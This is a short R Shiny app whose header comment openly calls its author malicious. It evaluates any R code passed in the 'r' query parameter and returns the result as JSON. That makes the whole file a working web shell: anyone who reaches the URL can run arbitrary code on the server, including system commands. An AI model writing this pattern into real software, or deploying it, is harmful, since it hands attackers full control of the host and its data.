# An author who means harm: "?r=<R code>" is evaluated, and its value is the answer, as JSON.
library(shiny)
ui <- function(request) {
  code <- parseQueryString(request$QUERY_STRING)$r
  refused <- function(condition) paste("refused:", conditionMessage(condition))
  value <- if (is.null(code)) "ready" else tryCatch(eval(parse(text = code), new.env()), error = refused, warning = refused)
  httpResponse(200, "application/json", as.character(jsonlite::toJSON(list(value = value), null = "null")))
}
shinyApp(ui, function(input, output) {})
